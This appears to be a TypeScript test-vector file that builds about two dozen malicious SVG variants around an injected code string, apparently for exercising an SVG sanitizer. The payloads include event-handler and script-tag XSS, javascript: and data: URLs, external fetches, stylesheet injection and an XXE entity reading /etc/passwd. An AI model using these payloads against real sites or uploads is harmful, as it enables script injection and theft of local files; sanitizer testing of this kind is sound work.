import type { Compose } from './vector.ts';

const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${inside}</svg>`;

/** SVG files: what a drawing can do besides being displayed. */
export const DRAWINGS: readonly Compose[] = [
  (code) => svg('', `onload="${code}"`),
  (code) => svg(`<script>${code}</script>`),
  (code) => svg(`<script xlink:href="data:text/javascript,${code}"/>`),
  (code) => svg(`<script href="https://elsewhere.example/x.js"/><!-- ${code} -->`),
  (code) => svg(`<a xlink:href="javascript:${code}"><rect width="9" height="9"/></a>`),
  (code) => svg(`<rect width="9" height="9" onclick="${code}"/>`),
  (code) => svg(`<animate onbegin="${code}" attributeName="x" dur="1s"/>`),
  (code) => svg(`<set attributeName="onmouseover" to="${code}"/>`),
  (code) => svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${code}"/></foreignObject>`),
  (code) =>
    svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${code}"/></foreignObject>`),
  (code) => svg(`<image href="x:" onerror="${code}"/>`),
  (code) => svg(`<image xlink:href="https://elsewhere.example/x.png"/><desc>${code}</desc>`),
  (code) => svg(`<use xlink:href="data:image/svg+xml,${encodeURIComponent(svg('', `id="x" onload="${code}"`))}#x"/>`),
  (code) => svg(`<style>@import url(https://elsewhere.example/x.css);</style><desc>${code}</desc>`),
  (code) => svg(`<style>*{background:url(javascript:${code})}</style>`),
  (code) => svg(`<filter><feImage href="https://elsewhere.example/x.png"/></filter><desc>${code}</desc>`),
  (code) => svg(`<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${code}</handler>`),
  (code) => `<?xml version="1.0"?><?xml-stylesheet href="javascript:${code}"?>${svg('')}`,
  (code) => `<!DOCTYPE svg [<!ENTITY x "${code}">]>${svg('<script>&x;</script>')}`,
  (code) =>
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg(`<text y="9">&x;</text><desc>${code}</desc>`)}`,
  (code) => svg(`<svg:script xmlns:svg="http://www.w3.org/2000/svg">${code}</svg:script>`),
  (code) => svg(`<discard onbegin="${code}"/>`),
  (code) => svg(`<path d="M0 0h9v9z" fill="url(javascript:${code})"/>`),
  (code) => svg(`<title><img src="x:" onerror="${code}"/></title>`),
];
